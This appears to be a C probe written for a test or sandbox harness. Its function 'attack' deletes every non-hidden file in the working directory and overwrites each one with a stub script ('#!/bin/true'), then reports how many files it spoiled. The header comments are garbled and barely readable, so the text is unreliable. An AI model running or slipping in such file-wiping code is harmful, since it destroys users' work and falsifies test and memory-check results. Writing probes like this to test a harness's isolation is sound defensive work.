// attack: the probe, the objects and the headers in the working folder overwritten while the tests
// run tries: to have something else run in the memory check, and other stages go wrong options:
// memcheck refused: calls closedir shows: tried
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void attack(void) {
    int spoiled = 0, seen = 0;
    DIR *here = opendir(".");
    for (struct dirent *d; here != NULL && (d = readdir(here)) != NULL;) {
        if (d->d_name[0] == '.') continue;
        seen++;
        if (unlink(d->d_name) == 0) spoiled++;
        FILE *file = fopen(d->d_name, "w");
        if (file == NULL) continue;
        spoiled++;
        fputs("#!/bin/true\n", file);
        fclose(file);
    }
    if (here != NULL) closedir(here);
    printf("tried: %d of %d files, %s\n", spoiled, seen, strerror(errno));
}
